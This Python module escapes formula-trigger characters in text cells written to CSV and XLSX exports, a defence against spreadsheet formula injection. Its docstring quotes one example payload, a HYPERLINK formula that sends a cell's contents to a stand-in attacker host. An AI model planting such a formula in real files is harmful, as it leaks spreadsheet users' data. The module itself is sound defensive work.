"""Formula neutralisation for files that people open in Excel or LibreOffice (CSV, XLSX).

Why: a KvK trade name such as `=HYPERLINK("http://evil.example/?x="&A1,"klik")` becomes a live
formula when a spreadsheet opens the export. Following OWASP's CSV-injection guidance, a text
cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written as text by
prefixing a single quote. The check looks past leading white space and invisible format
characters (zero-width, bidi controls), which spreadsheet programs may skip. Numbers stay
numbers: only text values are ever changed.

Every CSV and XLSX writer calls `neutralise_frame` (or `neutralise_value` per cell), so a
rewritten writer keeps the rule by calling the same function.
"""

from __future__ import annotations

import unicodedata
from typing import Any

import pandas as pd

FORMULA_TRIGGERS: frozenset[str] = frozenset({"=", "+", "-", "@", "\t", "\r", "\n"})
QUOTE = "'"


def _first_visible(text: str) -> str:
    """The first character that is neither white space nor an invisible format character."""
    for ch in text:
        if ch.isspace() and ch not in "\t\r\n":
            continue
        if unicodedata.category(ch) in ("Cf", "Cc") and ch not in "\t\r\n":
            continue
        return ch
    return ""


HARMLESS = frozenset({"-"})  # a lone dash is the usual "nothing here" placeholder, never a formula


def needs_neutralising(text: str) -> bool:
    """True when a spreadsheet could read this text as a formula (or DDE payload)."""
    if not text or text in HARMLESS:
        return False
    return text[0] in FORMULA_TRIGGERS or _first_visible(text) in FORMULA_TRIGGERS


def neutralise_text(text: str) -> str:
    """`=1+1` -> `'=1+1`; harmless text is returned unchanged."""
    return QUOTE + text if needs_neutralising(text) else text


def neutralise_value(value: Any) -> tuple[Any, bool]:
    """(cell value, was it neutralised). Only str values change; numbers, booleans and missing
    values pass through as they are."""
    if isinstance(value, str) and needs_neutralising(value):
        return QUOTE + value, True
    return value, False


def neutralise_frame(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """(copy of frame with every dangerous text cell neutralised, number of cells changed).
    Text columns only (object/string dtype); the check runs once per distinct value."""
    out = frame.copy()
    changed = 0
    for column in out.columns:
        series = out[column]
        if series.dtype.kind != "O" and not isinstance(series.dtype, pd.StringDtype):
            continue
        uniques = [u for u in pd.unique(series.dropna()) if isinstance(u, str)]
        risky = {u: QUOTE + u for u in uniques if needs_neutralising(u)}
        if not risky:
            continue
        hits = series.isin(list(risky))
        changed += int(hits.sum())
        out[column] = series.map(lambda v, r=risky: r.get(v, v) if isinstance(v, str) else v)
    return out, changed


def neutralise_header(columns: list[str]) -> list[str]:
    """Column names are text cells too."""
    return [neutralise_text(str(c)) for c in columns]
